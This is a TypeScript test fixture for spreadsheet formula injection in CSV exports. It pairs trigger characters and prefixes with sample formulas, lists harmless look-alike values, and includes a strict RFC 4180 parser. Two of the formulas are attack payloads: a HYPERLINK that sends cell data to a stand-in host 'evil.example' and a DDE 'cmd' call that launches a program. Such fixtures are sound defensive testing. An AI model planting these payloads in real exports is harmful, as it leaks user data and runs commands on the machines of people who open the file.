// Cells that a spreadsheet may take for a formula, and cells that look like it and are none.
const leads = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '\r\n=', "'=", "''+"]
const fronts = ['', ' ', '\u3000', "'", '\u00a0 ']
const formulas = [
  `HYPERLINK("http://evil.example?x="&A1,"点我")`,
  `cmd|' /C calc'!A0`,
  'SUM(1,2)',
  '1',
  '',
]
const harmless = [
  '李桂芳',
  "'",
  "''",
  "O'Brien",
  "'quoted'",
  'a=b',
  'a"b',
  'a,b',
  'a\r\nb',
  'a;b',
  ' ',
  '',
  '0086',
  '10.50',
  '"',
  '""',
  '\u202e=1',
]
/** What may be in a customer's name or a note, and what attackers put there. */
export const cells: readonly string[] = [
  ...leads.flatMap((lead) =>
    fronts.flatMap((front) => formulas.map((formula) => `${front}${lead}${formula}`)),
  ),
  ...harmless,
].slice(0, 400)

/** RFC 4180 to the letter: a quote opens a cell only at its start, and two make one inside. */
export function readRfc4180(file: string): string[][] {
  const lines: string[][] = []
  let record: string[] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  while (cell.lastIndex < file.length) {
    const found = cell.exec(file)
    if (!found) throw new Error('not RFC 4180')
    record.push(found[1]?.replaceAll('""', '"') ?? found[2]!)
    if (found[3] === ',') continue
    lines.push(record)
    record = []
  }
  return lines
}
